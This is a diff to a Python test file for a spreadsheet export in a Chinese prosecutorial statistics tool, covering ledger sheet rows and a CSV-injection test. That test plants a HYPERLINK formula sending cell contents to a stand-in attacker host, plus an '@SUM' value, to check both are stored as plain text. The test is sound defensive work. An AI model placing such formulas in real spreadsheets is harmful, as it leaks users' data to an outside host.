@@ -10,7 +10,7 @@ import openpyxl
 
 from jiancha.stats import StatsFilter, export_xlsx
 from jiancha.store import Store
-from tests.stats.scenario import CITY, A, D, Scenario
+from tests.stats.scenario import CITY, A, B, D, Scenario
 
 NOW = dt.datetime(2025, 4, 1, 2, 30, tzinfo=dt.UTC)
 SHEETS = ["效能统计", "在建模型台账", "已建模型台账", "应用成熟模型台账", "成效模型台账", "说明"]
@@ -83,8 +83,8 @@ def test_ledger_sheets(store: Store, scenario: Scenario) -> None:
         "文书被采纳",
         "挽回经济损失（元）",
     ]
-    assert len(results) == 2
-    row = results[1]
+    assert [r[0] for r in results[1:]] == [B, A]  # by slug
+    row = results[2]
     assert row[:7] == [
         A,
         "审前未羁押判处实刑罪犯未交付执行监督模型",
@@ -97,8 +97,10 @@ def test_ledger_sheets(store: Store, scenario: Scenario) -> None:
     assert row[8:] == [2, 2, 1, 1, 2, 1, 15000]
     building = [[c.value for c in r] for r in workbook["在建模型台账"].iter_rows()]
     assert [r[0] for r in building[1:]] == [D] and building[1][5] == 0
+    assert workbook["已建模型台账"].max_row == 2  # C
+    assert workbook["应用成熟模型台账"].max_row == 1  # none: the headings alone
     for name in ("已建模型台账", "应用成熟模型台账"):
-        assert workbook[name].max_row == 2 and workbook[name].freeze_panes == "A2"
+        assert workbook[name].freeze_panes == "A2"
 
 
 def test_notes_sheet_says_what_was_counted_and_when(store: Store, scenario: Scenario) -> None:
@@ -126,16 +128,13 @@ def test_text_that_could_run_as_a_formula_is_written_as_text(
     """OWASP CSV injection: a model named ``=HYPERLINK(…)`` is a string cell, not a formula."""
     from sqlalchemy import update
 
-    from jiancha.store import SupervisionModel
+    from jiancha.store import MarketModel, SupervisionModel
 
     evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
     with store.session() as session:
-        session.execute(
-            update(SupervisionModel).where(SupervisionModel.slug == A).values(name=evil)
-        )
-        session.execute(
-            update(SupervisionModel).where(SupervisionModel.slug == D).values(name="@SUM(1)")
-        )
+        for table in (SupervisionModel, MarketModel):  # the funnel's and the ledgers' names
+            session.execute(update(table).where(table.slug == A).values(name=evil))
+            session.execute(update(table).where(table.slug == D).values(name="@SUM(1)"))
     workbook = book(store, StatsFilter(group_by="model"))
     cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
     shown = {c.value: c for c in cells if isinstance(c.value, str)}
